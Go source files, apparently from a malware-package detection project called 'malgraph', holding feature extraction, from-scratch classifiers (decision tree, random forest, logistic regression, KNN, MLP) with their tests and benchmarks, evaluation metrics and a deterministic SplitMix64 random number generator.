	set("num_deps", float64(deps))

	for group, needles := range tokenGroups {
		count := 0
		for _, needle := range needles {
			count += strings.Count(lower, needle)
		}
		set(group, float64(count))
	}

	longest := 0
	for _, lit := range stringLitRe.FindAllString(src, -1) {
		if len(lit) > longest {
			longest = len(lit)
		}
	}
	set("longest_literal", float64(longest))
	set("ip_literals", float64(len(ipLiteralRe.FindAllString(src, -1))))
	set("url_literals", float64(len(urlLiteralRe.FindAllString(src, -1))))

	set("name_len", float64(len(a.Coord.Name)))
	digits := 0
	for _, r := range a.Coord.Name {
		if r >= '0' && r <= '9' {
			digits++
		}
	}
	set("name_digits", float64(digits))
	set("desc_len", float64(len(a.Description)))
	return features
}
