package ml

import (
	"sort"

	"malgraph/internal/xrand"
)

// treeNode is one CART node.
type treeNode struct {
	feature   int
	threshold float64
	left      *treeNode
	right     *treeNode
	leafLabel int
	isLeaf    bool
}

// DecisionTree is a CART classifier with Gini impurity splits.
type DecisionTree struct {
	MaxDepth    int     // default 12
	MinSamples  int     // default 2
	FeatureFrac float64 // fraction of features considered per split (1 = all)
	rng         *xrand.RNG

	root *treeNode
}

var _ Classifier = (*DecisionTree)(nil)

// Name implements Classifier.
func (t *DecisionTree) Name() string { return "DT" }

// Fit implements Classifier.
func (t *DecisionTree) Fit(X [][]float64, y []int) error {
	if err := validate(X, y); err != nil {
		return err
	}
	if t.MaxDepth <= 0 {
		t.MaxDepth = 12
	}
	if t.MinSamples <= 0 {
		t.MinSamples = 2
	}
	if t.FeatureFrac <= 0 || t.FeatureFrac > 1 {
		t.FeatureFrac = 1
	}
	if t.rng == nil {
		t.rng = xrand.New(1)
	}
	idx := make([]int, len(X))
	for i := range idx {
		idx[i] = i
	}
	t.root = t.grow(X, y, idx, 0)
	return nil
}

func majority(y []int, idx []int) int {
	ones := 0
	for _, i := range idx {
		ones += y[i]
	}
	if 2*ones >= len(idx) {
		return 1
	}
	return 0
}

func gini(ones, total int) float64 {
	if total == 0 {
		return 0
	}
	p := float64(ones) / float64(total)
	return 2 * p * (1 - p)
}

func (t *DecisionTree) grow(X [][]float64, y []int, idx []int, depth int) *treeNode {
	label := majority(y, idx)
	if depth >= t.MaxDepth || len(idx) < t.MinSamples || pure(y, idx) {
		return &treeNode{isLeaf: true, leafLabel: label}
	}
	feature, threshold, ok := t.bestSplit(X, y, idx)
	if !ok {
		return &treeNode{isLeaf: true, leafLabel: label}
	}
	var left, right []int
	for _, i := range idx {
		if X[i][feature] <= threshold {
			left = append(left, i)
		} else {
			right = append(right, i)
		}
	}
	if len(left) == 0 || len(right) == 0 {
		return &treeNode{isLeaf: true, leafLabel: label}
	}
	return &treeNode{
		feature:   feature,
		threshold: threshold,
		left:      t.grow(X, y, left, depth+1),
		right:     t.grow(X, y, right, depth+1),
	}
}

func pure(y []int, idx []int) bool {
	if len(idx) == 0 {
		return true
	}
	first := y[idx[0]]
	for _, i := range idx[1:] {
		if y[i] != first {
			return false
		}
	}
	return true
}

// bestSplit scans a (possibly subsampled) feature set for the Gini-optimal
// threshold using the sorted-sweep method.
func (t *DecisionTree) bestSplit(X [][]float64, y []int, idx []int) (int, float64, bool) {
	dim := len(X[0])
	nFeat := int(float64(dim)*t.FeatureFrac + 0.5)
	if nFeat < 1 {
		nFeat = 1
	}
	features := t.rng.Sample(dim, nFeat)
	sort.Ints(features)

	totalOnes := 0
	for _, i := range idx {
		totalOnes += y[i]
	}
	n := len(idx)
	parentGini := gini(totalOnes, n)

	bestGain := 1e-12
	bestFeature, bestThreshold := -1, 0.0
	order := make([]int, len(idx))
	for _, f := range features {
		copy(order, idx)
		sort.Slice(order, func(a, b int) bool { return X[order[a]][f] < X[order[b]][f] })
		leftOnes, leftN := 0, 0
		for k := 0; k < n-1; k++ {
			i := order[k]
			leftOnes += y[i]
			leftN++
			if X[order[k]][f] == X[order[k+1]][f] {
				continue // cannot split between equal values
			}
			rightOnes := totalOnes - leftOnes
			rightN := n - leftN
			weighted := (float64(leftN)*gini(leftOnes, leftN) + float64(rightN)*gini(rightOnes, rightN)) / float64(n)
			if gain := parentGini - weighted; gain > bestGain {
				bestGain = gain
				bestFeature = f
				bestThreshold = (X[order[k]][f] + X[order[k+1]][f]) / 2
			}
		}
	}
	if bestFeature < 0 {
		return 0, 0, false
	}
	return bestFeature, bestThreshold, true
}

// Predict implements Classifier.
func (t *DecisionTree) Predict(x []float64) int {
	node := t.root
	if node == nil {
		return 0
	}
	for !node.isLeaf {
		if x[node.feature] <= node.threshold {
			node = node.left
		} else {
			node = node.right
		}
	}
	return node.leafLabel
}

// RandomForest is a bagged ensemble of feature-subsampled CART trees.
type RandomForest struct {
	Trees       int     // default 50
	MaxDepth    int     // default 12
	FeatureFrac float64 // default 1/√dim heuristic when 0
	Seed        uint64  // default 1

	forest []*DecisionTree
}

var _ Classifier = (*RandomForest)(nil)

// Name implements Classifier.
func (rf *RandomForest) Name() string { return "RF" }

// Fit implements Classifier.
func (rf *RandomForest) Fit(X [][]float64, y []int) error {
	if err := validate(X, y); err != nil {
		return err
	}
	if rf.Trees <= 0 {
		rf.Trees = 50
	}
	if rf.MaxDepth <= 0 {
		rf.MaxDepth = 12
	}
	if rf.Seed == 0 {
		rf.Seed = 1
	}
	dim := len(X[0])
	frac := rf.FeatureFrac
	if frac <= 0 || frac > 1 {
		frac = sqrtFrac(dim)
	}
	rng := xrand.New(rf.Seed)
	rf.forest = make([]*DecisionTree, rf.Trees)
	n := len(X)
	for ti := 0; ti < rf.Trees; ti++ {
		treeRng := rng.Derive("tree" + string(rune('a'+ti%26)) + itoa(ti))
		bx := make([][]float64, n)
		by := make([]int, n)
		for i := 0; i < n; i++ {
			j := treeRng.Intn(n) // bootstrap sample
			bx[i] = X[j]
			by[i] = y[j]
		}
		tree := &DecisionTree{MaxDepth: rf.MaxDepth, MinSamples: 2, FeatureFrac: frac, rng: treeRng}
		if err := tree.Fit(bx, by); err != nil {
			return err
		}
		rf.forest[ti] = tree
	}
	return nil
}

func sqrtFrac(dim int) float64 {
	if dim <= 1 {
		return 1
	}
	s := 1.0
	x := float64(dim)
	for i := 0; i < 20; i++ {
		s = (s + x/s) / 2
	}
	return s / x
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}

// Predict implements Classifier (majority vote).
func (rf *RandomForest) Predict(x []float64) int {
	if len(rf.forest) == 0 {
		return 0
	}
	ones := 0
	for _, tree := range rf.forest {
		ones += tree.Predict(x)
	}
	if 2*ones >= len(rf.forest) {
		return 1
	}
	return 0
}
