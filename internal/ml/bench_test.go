package ml

import (
	"testing"

	"malgraph/internal/xrand"
)

func benchData(n, dim int) ([][]float64, []int) {
	rng := xrand.New(1)
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		row := make([]float64, dim)
		label := i % 2
		for d := range row {
			row[d] = rng.NormFloat64()
			if label == 1 && d < 3 {
				row[d] += 2
			}
		}
		X[i] = row
		y[i] = label
	}
	return X, y
}

func BenchmarkRandomForestFit(b *testing.B) {
	X, y := benchData(600, 15)
	for i := 0; i < b.N; i++ {
		rf := &RandomForest{Trees: 40, MaxDepth: 10, Seed: 3}
		if err := rf.Fit(X, y); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkLogisticRegressionFit(b *testing.B) {
	X, y := benchData(600, 15)
	for i := 0; i < b.N; i++ {
		lr := &LogisticRegression{Epochs: 200}
		if err := lr.Fit(X, y); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkMLPFit(b *testing.B) {
	X, y := benchData(600, 15)
	for i := 0; i < b.N; i++ {
		m := &MLP{Hidden: 24, Epochs: 40, Seed: 3}
		if err := m.Fit(X, y); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkKNNPredict(b *testing.B) {
	X, y := benchData(600, 15)
	k := &KNN{K: 3}
	if err := k.Fit(X, y); err != nil {
		b.Fatal(err)
	}
	query := X[0]
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k.Predict(query)
	}
}

func BenchmarkRandomForestPredict(b *testing.B) {
	X, y := benchData(600, 15)
	rf := &RandomForest{Trees: 40, MaxDepth: 10, Seed: 3}
	if err := rf.Fit(X, y); err != nil {
		b.Fatal(err)
	}
	query := X[0]
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rf.Predict(query)
	}
}
