package ml

import (
	"errors"
	"math"
	"testing"

	"malgraph/internal/xrand"
)

// blobs generates two Gaussian clusters, linearly separable-ish.
func blobs(rng *xrand.RNG, n int, sep float64) ([][]float64, []int) {
	X := make([][]float64, 0, n)
	y := make([]int, 0, n)
	for i := 0; i < n; i++ {
		label := i % 2
		cx := -sep / 2
		if label == 1 {
			cx = sep / 2
		}
		X = append(X, []float64{cx + rng.NormFloat64(), rng.NormFloat64()})
		y = append(y, label)
	}
	return X, y
}

// xor generates the classic non-linearly-separable XOR dataset with noise.
func xor(rng *xrand.RNG, n int) ([][]float64, []int) {
	X := make([][]float64, 0, n)
	y := make([]int, 0, n)
	for i := 0; i < n; i++ {
		a := float64(rng.Intn(2))
		b := float64(rng.Intn(2))
		X = append(X, []float64{a*2 - 1 + rng.NormFloat64()*0.15, b*2 - 1 + rng.NormFloat64()*0.15})
		label := 0
		if a != b {
			label = 1
		}
		y = append(y, label)
	}
	return X, y
}

func allClassifiers() []Classifier {
	return []Classifier{
		&RandomForest{Trees: 30, Seed: 7},
		&LogisticRegression{},
		&KNN{K: 5},
		&MLP{Hidden: 16, Epochs: 80, Seed: 7},
	}
}

func TestAllClassifiersOnSeparableBlobs(t *testing.T) {
	rng := xrand.New(1)
	Xtr, ytr := blobs(rng, 400, 6)
	Xte, yte := blobs(rng, 200, 6)
	for _, c := range allClassifiers() {
		if err := c.Fit(Xtr, ytr); err != nil {
			t.Fatalf("%s: %v", c.Name(), err)
		}
		m := Evaluate(c, Xte, yte)
		if m.Accuracy < 0.9 {
			t.Errorf("%s accuracy %v on separable data", c.Name(), m.Accuracy)
		}
	}
}

func TestNonlinearModelsSolveXOR(t *testing.T) {
	rng := xrand.New(2)
	Xtr, ytr := xor(rng, 400)
	Xte, yte := xor(rng, 200)
	for _, c := range []Classifier{
		&RandomForest{Trees: 30, Seed: 3},
		&KNN{K: 3},
		&MLP{Hidden: 16, Epochs: 200, Seed: 3, LearningRate: 0.1},
	} {
		if err := c.Fit(Xtr, ytr); err != nil {
			t.Fatalf("%s: %v", c.Name(), err)
		}
		m := Evaluate(c, Xte, yte)
		if m.Accuracy < 0.9 {
			t.Errorf("%s XOR accuracy %v", c.Name(), m.Accuracy)
		}
	}
	// A linear model cannot solve XOR — sanity check that the task is real.
	lr := &LogisticRegression{}
	if err := lr.Fit(Xtr, ytr); err != nil {
		t.Fatal(err)
	}
	if m := Evaluate(lr, Xte, yte); m.Accuracy > 0.8 {
		t.Errorf("LR XOR accuracy %v suspiciously high", m.Accuracy)
	}
}

func TestValidation(t *testing.T) {
	for _, c := range allClassifiers() {
		if err := c.Fit(nil, nil); !errors.Is(err, ErrBadTrainingData) {
			t.Errorf("%s: nil data error = %v", c.Name(), err)
		}
		if err := c.Fit([][]float64{{1, 2}}, []int{5}); !errors.Is(err, ErrBadTrainingData) {
			t.Errorf("%s: bad label error = %v", c.Name(), err)
		}
		if err := c.Fit([][]float64{{1, 2}, {1}}, []int{0, 1}); !errors.Is(err, ErrBadTrainingData) {
			t.Errorf("%s: ragged rows error = %v", c.Name(), err)
		}
	}
}

func TestDeterminism(t *testing.T) {
	rng := xrand.New(4)
	X, y := blobs(rng, 300, 3)
	Xte, _ := blobs(rng, 100, 3)
	for _, build := range []func() Classifier{
		func() Classifier { return &RandomForest{Trees: 20, Seed: 11} },
		func() Classifier { return &MLP{Hidden: 8, Epochs: 40, Seed: 11} },
		func() Classifier { return &LogisticRegression{} },
		func() Classifier { return &KNN{K: 3} },
	} {
		a, b := build(), build()
		if err := a.Fit(X, y); err != nil {
			t.Fatal(err)
		}
		if err := b.Fit(X, y); err != nil {
			t.Fatal(err)
		}
		for _, x := range Xte {
			if a.Predict(x) != b.Predict(x) {
				t.Fatalf("%s: non-deterministic predictions", a.Name())
			}
		}
	}
}

func TestEvaluateMetrics(t *testing.T) {
	c := &constClassifier{label: 1}
	X := [][]float64{{0}, {0}, {0}, {0}}
	y := []int{1, 1, 0, 0}
	m := Evaluate(c, X, y)
	if m.TP != 2 || m.FP != 2 || m.TN != 0 || m.FN != 0 {
		t.Fatalf("confusion = %+v", m)
	}
	if m.Accuracy != 0.5 || m.Recall != 1 || m.Precision != 0.5 {
		t.Fatalf("metrics = %+v", m)
	}
	if math.Abs(m.F1-2.0/3.0) > 1e-12 {
		t.Fatalf("f1 = %v", m.F1)
	}
}

type constClassifier struct{ label int }

func (c *constClassifier) Fit([][]float64, []int) error { return nil }
func (c *constClassifier) Predict([]float64) int        { return c.label }
func (c *constClassifier) Name() string                 { return "const" }

func TestDecisionTreePureLeaf(t *testing.T) {
	tree := &DecisionTree{}
	X := [][]float64{{0}, {1}, {2}}
	y := []int{1, 1, 1}
	if err := tree.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	for _, x := range X {
		if tree.Predict(x) != 1 {
			t.Fatal("pure training set must predict its class")
		}
	}
}

func TestDecisionTreeSimpleSplit(t *testing.T) {
	tree := &DecisionTree{}
	X := [][]float64{{0}, {1}, {2}, {10}, {11}, {12}}
	y := []int{0, 0, 0, 1, 1, 1}
	if err := tree.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if tree.Predict([]float64{1.5}) != 0 || tree.Predict([]float64{11.5}) != 1 {
		t.Fatal("threshold split wrong")
	}
}

func TestRandomForestBeatsSingleStumpOnXOR(t *testing.T) {
	rng := xrand.New(6)
	X, y := xor(rng, 300)
	Xte, yte := xor(rng, 150)
	stump := &DecisionTree{MaxDepth: 1}
	if err := stump.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	rf := &RandomForest{Trees: 25, Seed: 5}
	if err := rf.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	sAcc := Evaluate(stump, Xte, yte).Accuracy
	fAcc := Evaluate(rf, Xte, yte).Accuracy
	if fAcc <= sAcc {
		t.Fatalf("forest %v must beat stump %v on XOR", fAcc, sAcc)
	}
}

func TestKNNMajority(t *testing.T) {
	k := &KNN{K: 3}
	X := [][]float64{{0, 0}, {0.1, 0}, {0, 0.1}, {5, 5}, {5.1, 5}, {5, 5.1}}
	y := []int{0, 0, 0, 1, 1, 1}
	if err := k.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if k.Predict([]float64{0.05, 0.05}) != 0 {
		t.Fatal("KNN near cluster 0 wrong")
	}
	if k.Predict([]float64{5.05, 5.05}) != 1 {
		t.Fatal("KNN near cluster 1 wrong")
	}
}

func TestLogisticProbaMonotone(t *testing.T) {
	lr := &LogisticRegression{}
	X := [][]float64{{-2}, {-1}, {1}, {2}}
	y := []int{0, 0, 1, 1}
	if err := lr.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	if lr.Proba([]float64{-3}) >= lr.Proba([]float64{3}) {
		t.Fatal("probabilities not monotone in the separating direction")
	}
}

func TestPredictBeforeFit(t *testing.T) {
	for _, c := range []Classifier{&LogisticRegression{}, &KNN{}, &MLP{}, &RandomForest{}, &DecisionTree{}} {
		if got := c.Predict([]float64{1, 2}); got != 0 {
			t.Errorf("%s: unfitted Predict = %d, want 0", c.Name(), got)
		}
	}
}
