// Package ml implements the learning algorithms of §VI-A from scratch:
// Random Forest, Logistic Regression, K-Nearest Neighbors and a Multi-Layer
// Perceptron, plus the binary-classification metrics Table X reports. All
// models are deterministic under a fixed xrand stream, so the 50-iteration
// detection experiment is exactly reproducible.
package ml

import (
	"errors"
	"fmt"
	"math"
)

// Classifier is a binary classifier over dense feature vectors (labels 0/1).
type Classifier interface {
	// Fit trains on the feature matrix X (rows = samples) with labels y.
	Fit(X [][]float64, y []int) error
	// Predict returns the predicted label for one sample.
	Predict(x []float64) int
	// Name identifies the algorithm ("RF", "LR", "KNN", "MLP").
	Name() string
}

// ErrBadTrainingData is returned for empty or inconsistent training input.
var ErrBadTrainingData = errors.New("ml: bad training data")

func validate(X [][]float64, y []int) error {
	if len(X) == 0 || len(X) != len(y) {
		return fmt.Errorf("%w: %d samples, %d labels", ErrBadTrainingData, len(X), len(y))
	}
	dim := len(X[0])
	if dim == 0 {
		return fmt.Errorf("%w: zero-dimensional features", ErrBadTrainingData)
	}
	for i, row := range X {
		if len(row) != dim {
			return fmt.Errorf("%w: row %d has %d features, want %d", ErrBadTrainingData, i, len(row), dim)
		}
	}
	for i, label := range y {
		if label != 0 && label != 1 {
			return fmt.Errorf("%w: label %d at row %d not binary", ErrBadTrainingData, label, i)
		}
	}
	return nil
}

// Metrics are the Table X evaluation measures.
type Metrics struct {
	Accuracy  float64
	Precision float64
	Recall    float64
	F1        float64
	TP, TN    int
	FP, FN    int
}

// Evaluate scores a classifier on a labelled test set.
func Evaluate(c Classifier, X [][]float64, y []int) Metrics {
	var m Metrics
	for i, x := range X {
		pred := c.Predict(x)
		switch {
		case pred == 1 && y[i] == 1:
			m.TP++
		case pred == 0 && y[i] == 0:
			m.TN++
		case pred == 1 && y[i] == 0:
			m.FP++
		default:
			m.FN++
		}
	}
	total := m.TP + m.TN + m.FP + m.FN
	if total > 0 {
		m.Accuracy = float64(m.TP+m.TN) / float64(total)
	}
	if m.TP+m.FP > 0 {
		m.Precision = float64(m.TP) / float64(m.TP+m.FP)
	}
	if m.TP+m.FN > 0 {
		m.Recall = float64(m.TP) / float64(m.TP+m.FN)
	}
	if m.Precision+m.Recall > 0 {
		m.F1 = 2 * m.Precision * m.Recall / (m.Precision + m.Recall)
	}
	return m
}

// scaler standardises features to zero mean / unit variance; distance- and
// gradient-based models (LR, KNN, MLP) need it, trees do not.
type scaler struct {
	mean []float64
	std  []float64
}

func fitScaler(X [][]float64) *scaler {
	dim := len(X[0])
	s := &scaler{mean: make([]float64, dim), std: make([]float64, dim)}
	for _, row := range X {
		for d, v := range row {
			s.mean[d] += v
		}
	}
	for d := range s.mean {
		s.mean[d] /= float64(len(X))
	}
	for _, row := range X {
		for d, v := range row {
			diff := v - s.mean[d]
			s.std[d] += diff * diff
		}
	}
	for d := range s.std {
		s.std[d] = math.Sqrt(s.std[d] / float64(len(X)))
		if s.std[d] < 1e-9 {
			s.std[d] = 1
		}
	}
	return s
}

func (s *scaler) transform(x []float64) []float64 {
	out := make([]float64, len(x))
	for d, v := range x {
		out[d] = (v - s.mean[d]) / s.std[d]
	}
	return out
}

func sigmoid(z float64) float64 {
	if z < -40 {
		return 0
	}
	if z > 40 {
		return 1
	}
	return 1 / (1 + math.Exp(-z))
}
