package ml

import "sort"

// KNN is a K-nearest-neighbours classifier under Euclidean distance on
// standardised features.
type KNN struct {
	K int // default 5

	X     [][]float64
	Y     []int
	scale *scaler
}

var _ Classifier = (*KNN)(nil)

// Name implements Classifier.
func (k *KNN) Name() string { return "KNN" }

// Fit implements Classifier (lazy learner: stores the training set).
func (k *KNN) Fit(X [][]float64, y []int) error {
	if err := validate(X, y); err != nil {
		return err
	}
	if k.K <= 0 {
		k.K = 5
	}
	k.scale = fitScaler(X)
	k.X = make([][]float64, len(X))
	for i, row := range X {
		k.X[i] = k.scale.transform(row)
	}
	k.Y = append([]int(nil), y...)
	return nil
}

// Predict implements Classifier.
func (k *KNN) Predict(x []float64) int {
	if k.scale == nil || len(k.X) == 0 {
		return 0
	}
	q := k.scale.transform(x)
	type nd struct {
		dist  float64
		label int
	}
	ds := make([]nd, len(k.X))
	for i, row := range k.X {
		var sum float64
		for d := range row {
			diff := row[d] - q[d]
			sum += diff * diff
		}
		ds[i] = nd{dist: sum, label: k.Y[i]}
	}
	sort.Slice(ds, func(i, j int) bool { return ds[i].dist < ds[j].dist })
	kk := k.K
	if kk > len(ds) {
		kk = len(ds)
	}
	ones := 0
	for i := 0; i < kk; i++ {
		ones += ds[i].label
	}
	if 2*ones >= kk+1 || (2*ones == kk && ds[0].label == 1) {
		return 1
	}
	if 2*ones == kk { // even split: nearest neighbour breaks the tie
		return ds[0].label
	}
	return 0
}
