package ml

// LogisticRegression is an L2-regularised logistic model trained with
// full-batch gradient descent on standardised features.
type LogisticRegression struct {
	LearningRate float64 // default 0.1
	Epochs       int     // default 300
	L2           float64 // default 1e-4

	weights []float64
	bias    float64
	scale   *scaler
}

var _ Classifier = (*LogisticRegression)(nil)

// Name implements Classifier.
func (lr *LogisticRegression) Name() string { return "LR" }

// Fit implements Classifier.
func (lr *LogisticRegression) Fit(X [][]float64, y []int) error {
	if err := validate(X, y); err != nil {
		return err
	}
	if lr.LearningRate <= 0 {
		lr.LearningRate = 0.1
	}
	if lr.Epochs <= 0 {
		lr.Epochs = 300
	}
	if lr.L2 <= 0 {
		lr.L2 = 1e-4
	}
	lr.scale = fitScaler(X)
	scaled := make([][]float64, len(X))
	for i, row := range X {
		scaled[i] = lr.scale.transform(row)
	}
	dim := len(X[0])
	lr.weights = make([]float64, dim)
	lr.bias = 0
	n := float64(len(X))
	gradW := make([]float64, dim)
	for epoch := 0; epoch < lr.Epochs; epoch++ {
		for d := range gradW {
			gradW[d] = 0
		}
		gradB := 0.0
		for i, row := range scaled {
			p := lr.proba(row)
			diff := p - float64(y[i])
			for d, v := range row {
				gradW[d] += diff * v
			}
			gradB += diff
		}
		for d := range lr.weights {
			lr.weights[d] -= lr.LearningRate * (gradW[d]/n + lr.L2*lr.weights[d])
		}
		lr.bias -= lr.LearningRate * gradB / n
	}
	return nil
}

func (lr *LogisticRegression) proba(scaled []float64) float64 {
	z := lr.bias
	for d, v := range scaled {
		z += lr.weights[d] * v
	}
	return sigmoid(z)
}

// Predict implements Classifier.
func (lr *LogisticRegression) Predict(x []float64) int {
	if lr.scale == nil {
		return 0
	}
	if lr.proba(lr.scale.transform(x)) >= 0.5 {
		return 1
	}
	return 0
}

// Proba returns P(y=1|x).
func (lr *LogisticRegression) Proba(x []float64) float64 {
	if lr.scale == nil {
		return 0
	}
	return lr.proba(lr.scale.transform(x))
}
