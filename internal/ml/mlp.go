package ml

import (
	"malgraph/internal/xrand"
)

// MLP is a multi-layer perceptron with one ReLU hidden layer and a sigmoid
// output, trained by mini-batch SGD on standardised features (the "simple
// deep neural network" of §VI-A).
type MLP struct {
	Hidden       int     // hidden units, default 32
	LearningRate float64 // default 0.05
	Epochs       int     // default 60
	BatchSize    int     // default 32
	Seed         uint64  // default 1

	w1    [][]float64 // [hidden][dim]
	b1    []float64
	w2    []float64 // [hidden]
	b2    float64
	scale *scaler
}

var _ Classifier = (*MLP)(nil)

// Name implements Classifier.
func (m *MLP) Name() string { return "MLP" }

// Fit implements Classifier.
func (m *MLP) Fit(X [][]float64, y []int) error {
	if err := validate(X, y); err != nil {
		return err
	}
	if m.Hidden <= 0 {
		m.Hidden = 32
	}
	if m.LearningRate <= 0 {
		m.LearningRate = 0.05
	}
	if m.Epochs <= 0 {
		m.Epochs = 60
	}
	if m.BatchSize <= 0 {
		m.BatchSize = 32
	}
	if m.Seed == 0 {
		m.Seed = 1
	}
	rng := xrand.New(m.Seed)
	m.scale = fitScaler(X)
	scaled := make([][]float64, len(X))
	for i, row := range X {
		scaled[i] = m.scale.transform(row)
	}
	dim := len(X[0])
	m.w1 = make([][]float64, m.Hidden)
	m.b1 = make([]float64, m.Hidden)
	m.w2 = make([]float64, m.Hidden)
	for h := 0; h < m.Hidden; h++ {
		m.w1[h] = make([]float64, dim)
		for d := range m.w1[h] {
			m.w1[h][d] = (rng.Float64() - 0.5) * 0.5
		}
		m.w2[h] = (rng.Float64() - 0.5) * 0.5
	}

	hidden := make([]float64, m.Hidden)
	order := make([]int, len(scaled))
	for i := range order {
		order[i] = i
	}
	for epoch := 0; epoch < m.Epochs; epoch++ {
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
		for start := 0; start < len(order); start += m.BatchSize {
			end := start + m.BatchSize
			if end > len(order) {
				end = len(order)
			}
			m.sgdStep(scaled, y, order[start:end], hidden)
		}
	}
	return nil
}

func (m *MLP) sgdStep(X [][]float64, y []int, batch []int, hidden []float64) {
	lr := m.LearningRate / float64(len(batch))
	for _, i := range batch {
		x := X[i]
		// Forward.
		for h := range m.w1 {
			z := m.b1[h]
			for d, v := range x {
				z += m.w1[h][d] * v
			}
			if z < 0 {
				z = 0 // ReLU
			}
			hidden[h] = z
		}
		out := m.b2
		for h, v := range hidden {
			out += m.w2[h] * v
		}
		p := sigmoid(out)

		// Backward (cross-entropy ⇒ delta = p − y).
		delta := p - float64(y[i])
		for h := range m.w2 {
			gradW2 := delta * hidden[h]
			if hidden[h] > 0 { // ReLU derivative
				deltaH := delta * m.w2[h]
				for d, v := range x {
					m.w1[h][d] -= lr * deltaH * v
				}
				m.b1[h] -= lr * deltaH
			}
			m.w2[h] -= lr * gradW2
		}
		m.b2 -= lr * delta
	}
}

// Predict implements Classifier.
func (m *MLP) Predict(x []float64) int {
	if m.scale == nil {
		return 0
	}
	if m.Proba(x) >= 0.5 {
		return 1
	}
	return 0
}

// Proba returns P(y=1|x).
func (m *MLP) Proba(x []float64) float64 {
	s := m.scale.transform(x)
	out := m.b2
	for h := range m.w1 {
		z := m.b1[h]
		for d, v := range s {
			z += m.w1[h][d] * v
		}
		if z > 0 {
			out += m.w2[h] * z
		}
	}
	return sigmoid(out)
}
