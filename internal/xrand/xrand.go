// Package xrand provides a deterministic, splittable pseudo-random number
// generator used by every simulation component in this repository.
//
// The generator is based on SplitMix64 (Steele, Lea & Flood, OOPSLA 2014),
// which has a 64-bit state, passes BigCrush, and — crucially for us — supports
// cheap derivation of statistically independent substreams. Each subsystem
// derives a named stream from the world seed, so adding randomness to one
// component never perturbs another: the entire synthetic world is a pure
// function of a single seed.
package xrand

import (
	"hash/fnv"
	"math"
)

// RNG is a deterministic pseudo-random number generator. It is NOT safe for
// concurrent use; derive one stream per goroutine instead (see Derive).
type RNG struct {
	state uint64
}

// New returns a generator seeded with the given value.
func New(seed uint64) *RNG {
	return &RNG{state: seed}
}

// Derive returns a new, statistically independent generator whose stream is a
// pure function of the parent seed and the given name. Deriving the same name
// twice yields identical streams; different names yield unrelated streams.
func (r *RNG) Derive(name string) *RNG {
	h := fnv.New64a()
	_, _ = h.Write([]byte(name))
	// Mix the parent's *seed-equivalent* state with the name hash. We fold
	// through one SplitMix64 round so that "a"+seed and seed+"a" differ.
	return New(mix64(r.state ^ h.Sum64()))
}

// Uint64 returns the next value in the stream.
func (r *RNG) Uint64() uint64 {
	r.state += 0x9E3779B97F4A7C15
	return mix64(r.state)
}

func mix64(z uint64) uint64 {
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// Intn returns a uniform int in [0, n). It panics if n <= 0, matching
// math/rand semantics; callers must validate their bounds.
func (r *RNG) Intn(n int) int {
	if n <= 0 {
		panic("xrand: Intn with non-positive n")
	}
	return int(r.Uint64() % uint64(n))
}

// Int63 returns a non-negative int64.
func (r *RNG) Int63() int64 {
	return int64(r.Uint64() >> 1)
}

// Float64 returns a uniform float64 in [0, 1).
func (r *RNG) Float64() float64 {
	return float64(r.Uint64()>>11) / (1 << 53)
}

// NormFloat64 returns a standard normal variate (Box–Muller).
func (r *RNG) NormFloat64() float64 {
	for {
		u1 := r.Float64()
		u2 := r.Float64()
		if u1 <= 1e-300 {
			continue
		}
		return math.Sqrt(-2*math.Log(u1)) * math.Cos(2*math.Pi*u2)
	}
}

// ExpFloat64 returns an exponential variate with rate 1.
func (r *RNG) ExpFloat64() float64 {
	for {
		u := r.Float64()
		if u <= 1e-300 {
			continue
		}
		return -math.Log(u)
	}
}

// Pareto returns a Pareto(xm, alpha) variate. Heavy-tailed draws model the
// long-tail group sizes and active periods observed in the paper.
func (r *RNG) Pareto(xm, alpha float64) float64 {
	for {
		u := r.Float64()
		if u <= 1e-300 {
			continue
		}
		return xm / math.Pow(u, 1/alpha)
	}
}

// Bool returns true with probability p.
func (r *RNG) Bool(p float64) bool {
	return r.Float64() < p
}

// Perm returns a pseudo-random permutation of [0, n).
func (r *RNG) Perm(n int) []int {
	p := make([]int, n)
	for i := range p {
		p[i] = i
	}
	r.Shuffle(len(p), func(i, j int) { p[i], p[j] = p[j], p[i] })
	return p
}

// Shuffle performs a Fisher–Yates shuffle of n elements using swap.
func (r *RNG) Shuffle(n int, swap func(i, j int)) {
	for i := n - 1; i > 0; i-- {
		j := r.Intn(i + 1)
		swap(i, j)
	}
}

// Pick returns a uniformly chosen element of the non-empty slice.
func Pick[T any](r *RNG, items []T) T {
	return items[r.Intn(len(items))]
}

// Sample returns k distinct indices from [0, n) in random order. If k >= n it
// returns a permutation of all n indices.
func (r *RNG) Sample(n, k int) []int {
	if k >= n {
		return r.Perm(n)
	}
	// Partial Fisher–Yates over an index map keeps this O(k) in memory for
	// small k relative to n only if we used a map; n here is always modest,
	// so the simple array is clearer and fast enough.
	p := make([]int, n)
	for i := range p {
		p[i] = i
	}
	for i := 0; i < k; i++ {
		j := i + r.Intn(n-i)
		p[i], p[j] = p[j], p[i]
	}
	return p[:k]
}

// WeightedIndex returns an index drawn proportionally to weights. Zero or
// negative weights are treated as zero; if all weights are zero it returns 0.
func (r *RNG) WeightedIndex(weights []float64) int {
	var total float64
	for _, w := range weights {
		if w > 0 {
			total += w
		}
	}
	if total <= 0 {
		return 0
	}
	target := r.Float64() * total
	var acc float64
	for i, w := range weights {
		if w <= 0 {
			continue
		}
		acc += w
		if target < acc {
			return i
		}
	}
	return len(weights) - 1
}
