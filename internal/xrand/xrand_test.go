package xrand

import (
